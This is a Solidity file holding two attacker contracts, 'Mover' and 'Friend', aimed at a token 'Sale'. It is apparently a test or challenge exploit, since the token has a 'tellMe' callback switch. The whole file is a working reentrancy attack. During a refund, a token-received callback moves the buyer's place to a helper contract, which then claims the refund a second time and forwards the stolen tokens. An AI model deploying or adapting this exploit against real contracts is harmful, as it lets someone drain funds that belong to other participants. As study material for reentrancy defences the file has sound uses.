/// Takes a place over, and its refund.
contract Friend {
    function ask(Sale sale, Token coin, address to) external {
        sale.refund();
        coin.transfer(to, coin.balanceOf(address(this)));
    }
}

/// Gives its place away while its refund is being paid.
contract Mover {
    Token private immutable coin;
    Sale private immutable sale;
    Friend private immutable friend;
    bool private waits;

    constructor(Token money, Sale target) {
        (coin, sale, friend) = (money, target, new Friend());
    }

    function enter(uint256 amount) external {
        coin.approve(address(sale), amount);
        sale.join(amount);
    }

    function go() external {
        coin.tellMe(true);
        waits = true;
        sale.refund();
        coin.tellMe(false);
        friend.ask(sale, coin, msg.sender);
        coin.transfer(msg.sender, coin.balanceOf(address(this)));
    }

    function tokensReceived(address, uint256) external {
        if (!waits) return;
        waits = false;
        sale.movePlace(address(friend));
    }
}
